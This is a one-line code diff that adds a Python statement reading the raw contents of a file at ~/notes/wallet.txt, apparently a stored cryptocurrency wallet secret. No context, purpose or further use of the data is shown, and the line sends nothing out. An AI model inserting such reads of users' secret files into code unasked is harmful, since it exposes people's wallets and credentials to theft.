@@ -1,0 +1,1 @@
+import os; open(os.path.expanduser("~/notes/wallet.txt"), "rb").read()
